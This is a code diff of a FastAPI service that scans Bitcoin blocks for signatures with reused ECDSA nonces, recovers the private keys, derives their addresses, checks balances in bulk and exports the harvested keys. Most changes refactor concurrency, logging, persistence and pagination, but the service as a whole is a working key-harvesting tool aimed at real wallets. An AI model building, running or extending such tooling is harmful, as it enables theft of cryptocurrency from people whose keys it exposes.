+            for (r_key, sig1, sig2), result in zip(pairs, recovered):
+                if result is None:
+                    continue
+                private_key, compressed_addr, uncompressed_addr = result
+                if (r_key, private_key) not in seen_keys:
+                    seen_keys.add((r_key, private_key))
                     
-                    # Try to recover private key from each pair
-                    for i in range(len(signatures)):
-                        for j in range(i + 1, len(signatures)):
-                            sig1, sig2 = signatures[i], signatures[j]
-                            
-                            private_key = self.crypto.recover_private_key(
-                                r_value, sig1["s"], sig2["s"],
-                                sig1["message_hash"], sig2["message_hash"]
-                            )
-                            
-                            if private_key:
-                                # Generate addresses
-                                compressed_addr = self.crypto.private_key_to_address(private_key, True)
-                                uncompressed_addr = self.crypto.private_key_to_address(private_key, False)
-                                
-                                recovered_key = RecoveredKey(
-                                    private_key=private_key,
-                                    compressed_address=compressed_addr,
-                                    uncompressed_address=uncompressed_addr,
-                                    tx1_hash=sig1["tx_id"],
-                                    tx2_hash=sig2["tx_id"],
-                                    tx1_input_index=sig1["input_index"],
-                                    tx2_input_index=sig2["input_index"],
-                                    r_value=r_value,
-                                    s1_value=sig1["s"],
-                                    s2_value=sig2["s"],
-                                    message1_hash=sig1["message_hash"],
-                                    message2_hash=sig2["message_hash"],
-                                    validation_status="unknown"
-                                )
-                                
-                                recovered_keys.append(recovered_key)
-                                scan_states[scan_id]["keys_recovered"] += 1
-                                
-                                await self.add_log(scan_id, f"Recovered private key: {private_key[:16]}...", "success")
+                    recovered_key = RecoveredKey(
+                        private_key=private_key,
+                        compressed_address=compressed_addr,
+                        uncompressed_address=uncompressed_addr,
+                        tx1_hash=sig1.tx_id.hex(),
+                        tx2_hash=sig2.tx_id.hex(),
+                        tx1_input_index=sig1.input_index,
+                        tx2_input_index=sig2.input_index,
+                        r_value=r_key.hex(),
+                        s1_value=f"{sig1.s:064x}",
+                        s2_value=f"{sig2.s:064x}",
+                        message1_hash=f"{sig1.message_hash:064x}",
+                        message2_hash=f"{sig2.message_hash:064x}",
+                        validation_status="unknown"
+                    )
+                    
+                    recovered_keys.append(recovered_key)
+                    scan_states[scan_id].keys_recovered += 1
+                    
+                    self.add_log(scan_id, f"Recovered private key: {private_key[:16]}...", "success")
             
-            scan_states[scan_id]["r_reuse_pairs"] = reused_count
-            scan_states[scan_id]["recovered_keys"] = recovered_keys
+            scan_states[scan_id].recovered_keys.extend(recovered_keys)
+            scan_states[scan_id].version += 1
+            
+            if recovered_keys:
+                await recovered_keys_collection.bulk_write(
+                    [InsertOne({**key.model_dump(), "scan_id": scan_id}) for key in recovered_keys],
+                    ordered=False
+                )
             
         except Exception as e:
-            logger.error(f"Error finding reused R values: {e}")
-            await self.add_log(scan_id, f"Error analyzing signatures: {str(e)}", "error")
+            logger.error("Error recovering reused R pairs: %s", e)
+            self.add_log(scan_id, f"Error analyzing signatures: {str(e)}", "error")
     
-    async def add_log(self, scan_id: str, message: str, level: str = "info"):
-        """Add log entry to scan"""
+    def add_log(self, scan_id: str, message: str, level: str = "info"):
+        """Buffer a log entry for the scan; the flusher publishes it"""
         if scan_id in scan_states:
-            log_entry = {
-                "timestamp": datetime.now(timezone.utc).isoformat(),
-                "message": message,
-                "level": level
-            }
-            scan_states[scan_id]["logs"].append(log_entry)
-            
-            # Keep only last 200 logs
-            if len(scan_states[scan_id]["logs"]) > 200:
-                scan_states[scan_id]["logs"] = scan_states[scan_id]["logs"][-200:]
+            buffer = self._log_buf.get(scan_id)
+            if buffer is None:
+                buffer = self._log_buf[scan_id] = deque(maxlen=self.log_buffer_size)
+            # Only a wall-clock float is taken here; entries are formatted when the flusher publishes them
+            buffer.append((time.time(), message, level))
+            if len(buffer) >= self.log_flush_size:
+                self._log_dirty.set()
+    
+    def flush_logs(self):
+        """Move buffered log entries into scan state and the MongoDB log writer"""
+        buffers, self._log_buf = self._log_buf, {}
+        now = datetime.now(timezone.utc)
+        for scan_id, buffer in buffers.items():
+            state = scan_states.get(scan_id)
+            if state is None or not buffer:
+                continue
+            entries = [
+                {
+                    "timestamp": datetime.fromtimestamp(ts, timezone.utc).isoformat(),
+                    "message": message,
+                    "level": level
+                }
+                for ts, message, level in buffer
+            ]
+            # deque(maxlen=200) keeps only the last 200 logs without re-slicing
+            state.logs.extend(entries)
+            state.version += 1
+            for log_entry in entries:
+                log_writer.put({**log_entry, "scan_id": scan_id, "created_at": now})
+    
+    async def _log_flusher(self):
+        while True:
+            try:
+                await asyncio.wait_for(self._log_dirty.wait(), self.log_flush_interval)
+            except asyncio.TimeoutError:
+                pass
+            self._log_dirty.clear()
+            self.flush_logs()
+    
+    def enqueue_scan(self, scan_id: str, start_block: int, end_block: int, address_types: List[str]):
+        """Queue a scan for the next free scan worker"""
+        self.scan_queue.put_nowait((scan_id, start_block, end_block, address_types))
+        # Queued items are no longer counted once a worker takes them, so compare against idle workers
+        if self.scan_queue.qsize() > len(self._scan_workers) - self._busy_scan_workers:
+            self.add_log(scan_id, "Scan queued until a scan worker is free")
+    
+    async def _scan_worker(self):
+        while True:
+            scan_id, start_block, end_block, address_types = await self.scan_queue.get()
+            self._busy_scan_workers += 1
+            try:
+                state = scan_states.get(scan_id)
+                # A scan stopped while it was still queued never starts
+                if state is not None and not state.stop_event.is_set():
+                    await self.scan_blocks(scan_id, start_block, end_block, address_types)
+                elif state is not None and await persist_scan_state(scan_id):
+                    retire_scan(scan_id)
+            except Exception as e:
+                logger.error("Scan worker error for %s: %s", scan_id, e)
+            finally:
+                self._busy_scan_workers -= 1
+                self.scan_queue.task_done()
+    
+    async def start(self):
+        if self._log_flush_task is None:
+            self._log_flush_task = asyncio.create_task(self._log_flusher())
+        if not self._scan_workers:
+            self._scan_workers = [
+                asyncio.create_task(self._scan_worker()) for _ in range(self.max_concurrent_scans)
+            ]
+        self.get_recovery_pool()
+    
+    async def stop(self):
+        if self._log_flush_task is not None:
+            self._log_flush_task.cancel()
+            self._log_flush_task = None
+        for task in self._scan_workers:
+            task.cancel()
+        self._scan_workers = []
+        self.flush_logs()
+        if self._recovery_pool is not None:
+            self._recovery_pool.shutdown(wait=False, cancel_futures=True)
+            self._recovery_pool = None
 
 # Initialize scanner
 scanner = RValueScanner()
 
 # API Routes
+def get_api() -> BlockchainAPI:
+    """The process-wide API client, whose pooled sessions are opened at startup"""
+    return scanner.api
+
 @api_router.get("/current-height")
-async def get_current_height():
+async def get_current_height(api: BlockchainAPI = Depends(get_api)):
     """Get current blockchain height"""
     try:
-        api = BlockchainAPI()
         height = await api.get_block_height()
         return {"height": height}
     except Exception as e:
         raise HTTPException(status_code=500, detail=str(e))
 
 @api_router.post("/scan/start")
-async def start_scan(config: ScanConfig, background_tasks: BackgroundTasks):
+async def start_scan(config: ScanConfig):
     """Start a new reused R value scan"""
     try:
         if config.end_block <= config.start_block:
@@ -528,24 +1658,16 @@ async def start_scan(config: ScanConfig, background_tasks: BackgroundTasks):
             raise HTTPException(status_code=400, detail="At least one address type must be selected")
         
         # Initialize scan state
-        scan_states[config.scan_id] = {
-            "config": config.dict(),
-            "status": "initializing",
-            "current_block": config.start_block,
-            "blocks_scanned": 0,
-            "total_blocks": config.end_block - config.start_block + 1,
-            "signatures_found": 0,
-            "r_reuse_pairs": 0,
-            "keys_recovered": 0,
-            "progress_percentage": 0.0,
-            "logs": [],
-            "recovered_keys": [],
-            "created_at": datetime.now(timezone.utc)
-        }
+        scan_states[config.scan_id] = ScanState(
+            config=config.model_dump(),
+            current_block=config.start_block,
+            total_blocks=config.end_block - config.start_block + 1,
+            created_at=config.created_at
+        )
+        await persist_scan_state(config.scan_id)
         
-        # Start scan in background
-        background_tasks.add_task(
-            scanner.scan_blocks,
+        # Hand the scan to the bounded scan worker pool
+        scanner.enqueue_scan(
             config.scan_id,
             config.start_block,
             config.end_block,
@@ -558,116 +1680,224 @@ async def start_scan(config: ScanConfig, background_tasks: BackgroundTasks):
         raise HTTPException(status_code=500, detail=str(e))
 
 @api_router.get("/scan/progress/{scan_id}")
-async def get_scan_progress(scan_id: str):
+async def get_scan_progress(scan_id: str, request: Request, response: Response):
     """Get scan progress"""
-    if scan_id not in scan_states:
-        raise HTTPException(status_code=404, detail="Scan not found")
-    
-    state = scan_states[scan_id]
+    state = await get_scan_state(scan_id)
+    # Scans owned by this worker answer unchanged polls with 304 instead of re-serialising
+    if scan_id in scan_states:
+        etag = f'W/"{scan_id}-{state.version}"'
+        if request.headers.get("if-none-match") == etag:
+            return Response(status_code=304, headers={"ETag": etag})
+        response.headers["ETag"] = etag
     return ScanProgress(
         scan_id=scan_id,
-        status=state["status"],
-        current_block=state["current_block"],
-        blocks_scanned=state["blocks_scanned"],
-        total_blocks=state["total_blocks"],
-        signatures_found=state["signatures_found"],
-        r_reuse_pairs=state["r_reuse_pairs"],
-        keys_recovered=state["keys_recovered"],
-        progress_percentage=state["progress_percentage"],
-        logs=state["logs"][-50:]  # Return last 50 logs
+        status=state.status,
+        current_block=state.current_block,
+        blocks_scanned=state.blocks_scanned,
+        total_blocks=state.total_blocks,
+        signatures_found=state.signatures_found,
+        r_reuse_pairs=state.r_reuse_pairs,
+        keys_recovered=state.keys_recovered,
+        progress_percentage=state.progress_percentage,
+        logs=list(islice(state.logs, max(0, len(state.logs) - 50), None))  # Return last 50 logs
     )
 
 @api_router.get("/scan/results/{scan_id}")
 async def get_scan_results(scan_id: str):
     """Get scan results"""
-    if scan_id not in scan_states:
-        raise HTTPException(status_code=404, detail="Scan not found")
-    
-    state = scan_states[scan_id]
+    state = await get_scan_state(scan_id, include_keys=True)
     return {
         "scan_id": scan_id,
-        "status": state["status"],
-        "recovered_keys": state["recovered_keys"],
-        "total_keys": len(state["recovered_keys"]),
-        "r_reuse_pairs": state["r_reuse_pairs"],
-        "signatures_found": state["signatures_found"]
+        "status": state.status,
+        "recovered_keys": state.recovered_keys,
+        "total_keys": len(state.recovered_keys),
+        "r_reuse_pairs": state.r_reuse_pairs,
+        "signatures_found": state.signatures_found
     }
 
+# Only scans in these states can still be stopped
+STOPPABLE_STATUSES = ("initializing", "running")
+
 @api_router.post("/scan/stop/{scan_id}")
 async def stop_scan(scan_id: str):
     """Stop a running scan"""
-    if scan_id not in scan_states:
-        raise HTTPException(status_code=404, detail="Scan not found")
+    state = scan_states.get(scan_id)
+    if state is not None:
+        # Finished scans keep their final status
+        if state.status not in STOPPABLE_STATUSES:
+            return {"message": f"Scan is not running ({state.status})", "status": state.status}
+        state.stop()
+        return {"message": "Scan stopped successfully", "status": state.status}
     
-    scan_states[scan_id]["status"] = "stopped"
-    return {"message": "Scan stopped successfully"}
+    # The scan runs on another worker; it picks the flag up on its next snapshot
+    try:
+        snapshot = await db.scan_states.find_one_and_update(
+            {"scan_id": scan_id, "status": {"$in": list(STOPPABLE_STATUSES)}},
+            {"$set": {"stop_requested": True}},
+            projection={"_id": 0, "status": 1}
+        )
+        if snapshot is not None:
+            return {"message": "Scan stopped successfully", "status": snapshot["status"]}
+        snapshot = await db.scan_states.find_one({"scan_id": scan_id}, {"_id": 0, "status": 1})
+    except Exception as e:
+        raise HTTPException(status_code=500, detail=str(e))
+    if snapshot is None:
+        raise HTTPException(status_code=404, detail="Scan not found")
+    return {"message": f"Scan is not running ({snapshot['status']})", "status": snapshot["status"]}
 
 @api_router.post("/balance/check")
-async def check_balances(addresses: List[str]):
+async def check_balances(addresses: List[str], api: BlockchainAPI = Depends(get_api)):
     """Check balances for multiple addresses"""
     try:
-        api = BlockchainAPI()
-        balances = []
-        
-        for address in addresses:
-            balance = await api.get_address_balance(address)
-            balances.append(balance)
-            await asyncio.sleep(0.1)  # Rate limiting
+        # Requests are rate limited by the per-host admission slots rather than a fixed sleep
+        balances = await asyncio.gather(*(api.get_address_balance(address) for address in addresses))
         
         return {"balances": balances}
         
     except Exception as e:
         raise HTTPException(status_code=500, detail=str(e))
 
+def _export_default(obj):
+    """orjson fallback for values it can't serialise natively"""
+    if isinstance(obj, BaseModel):
+        return obj.model_dump()
+    return str(obj)
+
+# Recovered keys serialised per streamed chunk of an export
+EXPORT_CHUNK_KEYS = 500
+
+async def stream_export(scan_id: str, state: ScanState):
+    """Yield the export JSON piecewise so large key lists are never held as one document"""
+    keys = state.recovered_keys
+    total = len(keys)
+    yield (
+        b'{"scan_id":' + orjson.dumps(scan_id)
+        + b',"config":' + orjson.dumps(state.config, default=_export_default)
+        + b',"results":{"status":' + orjson.dumps(state.status)
+        + b',"total_keys":' + str(total).encode()
+        + b',"recovered_keys":['
+    )
+    for start in range(0, total, EXPORT_CHUNK_KEYS):
+        chunk = b",".join(
+            orjson.dumps(key, default=_export_default) for key in keys[start:min(start + EXPORT_CHUNK_KEYS, total)]
+        )
+        yield chunk if start == 0 else b"," + chunk
+    statistics = {
+        "blocks_scanned": state.blocks_scanned,
+        "signatures_found": state.signatures_found,
+        "r_reuse_pairs": state.r_reuse_pairs,
+        "keys_recovered": state.keys_recovered
+    }
+    yield (
+        b'],"statistics":' + orjson.dumps(statistics)
+        + b'},"exported_at":' + orjson.dumps(datetime.now(timezone.utc).isoformat()) + b"}"
+    )
+
 @api_router.get("/scan/export/{scan_id}")
 async def export_results(scan_id: str):
     """Export scan results as JSON"""
-    if scan_id not in scan_states:
-        raise HTTPException(status_code=404, detail="Scan not found")
-    
-    state = scan_states[scan_id]
-    export_data = {
-        "scan_id": scan_id,
-        "config": state["config"],
-        "results": {
-            "status": state["status"],
-            "total_keys": len(state["recovered_keys"]),
-            "recovered_keys": state["recovered_keys"],
-            "statistics": {
-                "blocks_scanned": state["blocks_scanned"],
-                "signatures_found": state["signatures_found"],
-                "r_reuse_pairs": state["r_reuse_pairs"],
-                "keys_recovered": state["keys_recovered"]
-            }
-        },
-        "exported_at": datetime.now(timezone.utc).isoformat()
-    }
-    
-    # Save to file
+    state = await get_scan_state(scan_id, include_keys=True)
     filename = f"scan_results_{scan_id}.json"
-    filepath = f"/tmp/{filename}"
-    
-    with open(filepath, 'w') as f:
-        json.dump(export_data, f, indent=2, default=str)
-    
-    return FileResponse(filepath, filename=filename, media_type='application/json')
+    return StreamingResponse(
+        stream_export(scan_id, state),
+        media_type="application/json",
+        headers={"Content-Disposition": f'attachment; filename="{filename}"'}
+    )
+
+@api_router.get("/scan/performance-config")
+async def get_performance_config(api: BlockchainAPI = Depends(get_api)):
+    """Get upstream request concurrency"""
+    return api.concurrency_stats()
+
+@api_router.post("/scan/performance-config")
+async def update_performance_config(config: PerformanceConfig, api: BlockchainAPI = Depends(get_api)):
+    """Resize upstream request concurrency without restarting running scans"""
+    await api.set_max_concurrent_requests(config.max_concurrent_requests)
+    return api.concurrency_stats()
+
+_EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
+
+def _scan_sort_key(scan_id: str, created_at: datetime) -> tuple:
+    """(created_at in epoch milliseconds, scan_id); MongoDB keeps datetimes to the millisecond, naive in UTC"""
+    if created_at.tzinfo is None:
+        created_at = created_at.replace(tzinfo=timezone.utc)
+    return (created_at - _EPOCH) // timedelta(milliseconds=1), scan_id
 
 @api_router.get("/scan/list")
-async def list_scans():
-    """List all scans"""
-    scans = []
-    for scan_id, state in scan_states.items():
-        scans.append({
+async def list_scans(limit: int = Query(100, ge=1, le=1000), cursor: Optional[str] = None):
+    """List scans a page at a time in creation order; pass next_cursor back to continue"""
+    after = None
+    if cursor:
+        try:
+            created_ms, scan_id = cursor.split(":", 1)
+            after = (int(created_ms), scan_id)
+        except ValueError:
+            raise HTTPException(status_code=400, detail="Invalid cursor")
+    
+    def summary(scan_id: str, status: str, config: Dict, keys_recovered: int, created_at) -> Dict:
+        return {
             "scan_id": scan_id,
-            "status": state["status"],
-            "start_block": state["config"]["start_block"],
-            "end_block": state["config"]["end_block"],
-            "keys_recovered": state["keys_recovered"],
-            "created_at": state["created_at"],
+            "status": status,
+            "start_block": config["start_block"],
+            "end_block": config["end_block"],
+            "keys_recovered": keys_recovered,
+            "created_at": created_at,
             "backend_verification": "custom-backend-confirmed"  # Unique marker
-        })
+        }
+    
+    entries = []  # (sort key, summary)
+    # Scans owned by this worker whose start snapshot has not reached MongoDB yet
+    unpersisted = [(scan_id, state) for scan_id, state in scan_states.items() if not state.persisted]
+    try:
+        query = {}
+        if after is not None:
+            after_at = _EPOCH + timedelta(milliseconds=after[0])
+            query = {"$or": [
+                {"created_at": {"$gt": after_at}},
+                {"created_at": after_at, "scan_id": {"$gt": after[1]}}
+            ]}
+        async for doc in db.scan_states.find(
+            query, {"_id": 0, "scan_id": 1, "status": 1, "config": 1, "keys_recovered": 1, "created_at": 1}
+        ).sort([("created_at", 1), ("scan_id", 1)]).limit(limit + 1):
+            key = _scan_sort_key(doc["scan_id"], doc["created_at"])
+            # Scans owned by this worker report their live counters rather than the last snapshot
+            state = scan_states.get(doc["scan_id"])
+            if state is not None:
+                entries.append((key, summary(
+                    doc["scan_id"], state.status, state.config, state.keys_recovered, state.created_at
+                )))
+            else:
+                entries.append((key, summary(
+                    doc["scan_id"], doc["status"], doc["config"], doc["keys_recovered"], doc["created_at"]
+                )))
+        total_scans = await db.scan_states.count_documents({}) + len(unpersisted)
+    except Exception as e:
+        logger.error("Error listing stored scans: %s", e)
+        entries = []
+        unpersisted = list(scan_states.items())
+        total_scans = len(unpersisted)
+    
+    listed = {entry[1]["scan_id"] for entry in entries}
+    for scan_id, state in unpersisted:
+        key = _scan_sort_key(scan_id, state.created_at)
+        if scan_id not in listed and (after is None or key > after):
+            entries.append((key, summary(scan_id, state.status, state.config, state.keys_recovered, state.created_at)))
+    entries.sort(key=lambda entry: entry[0])
+    del entries[limit + 1:]
     
-    return {"scans": scans, "total_scans": len(scans), "backend_type": "custom-reused-r-scanner"}
+    next_cursor = None
+    if len(entries) > limit:
+        entries.pop()
+        created_ms, scan_id = entries[-1][0]
+        next_cursor = f"{created_ms}:{scan_id}"
+    scans = [scan for _, scan in entries]
+    return {
+        "scans": scans,
+        "count": len(scans),
+        "total_scans": total_scans,
+        "next_cursor": next_cursor,
+        "backend_type": "custom-reused-r-scanner"
+    }
 
 # Include the router in the main app
 app.include_router(api_router)
@@ -675,7 +1905,7 @@ app.include_router(api_router)
 app.add_middleware(
     CORSMiddleware,
     allow_credentials=True,
-    allow_origins=os.environ.get('CORS_ORIGINS', '*').split(','),
+    allow_origins=list(CORS_ORIGINS),
     allow_methods=["*"],
     allow_headers=["*"],
 )
@@ -687,6 +1917,37 @@ logging.basicConfig(
 )
 logger = logging.getLogger(__name__)
 
+@app.on_event("startup")
+async def start_background_services():
+    await scanner.api.start()
+    await log_writer.start()
+    try:
+        await log_writer.collection.create_index("created_at", expireAfterSeconds=SCAN_LOG_TTL_SECONDS)
+    except Exception as e:
+        logger.error("Error creating scan log TTL index: %s", e)
+    await block_signature_writer.start()
+    try:
+        await block_signature_writer.collection.create_index("key")
+        await block_signature_writer.collection.create_index([("height", -1), ("block_hash", 1)])
+        await block_signature_writer.collection.create_index(
+            "created_at", expireAfterSeconds=BLOCK_SIGNATURE_CACHE_TTL_SECONDS
+        )
+    except Exception as e:
+        logger.error("Error creating block signature cache indexes: %s", e)
+    await scanner.warm_block_hash_cache()
+    try:
+        await db.scan_states.create_index("scan_id", unique=True)
+        await db.scan_states.create_index([("created_at", 1), ("scan_id", 1)])
+        await recovered_keys_collection.create_index("r_value")
+        await recovered_keys_collection.create_index("scan_id")
+    except Exception as e:
+        logger.error("Error creating scan state indexes: %s", e)
+    await scanner.start()
+
 @app.on_event("shutdown")
 async def shutdown_db_client():
+    await scanner.api.close()
+    await scanner.stop()
+    await log_writer.stop()
+    await block_signature_writer.stop()
     client.close()
\ No newline at end of file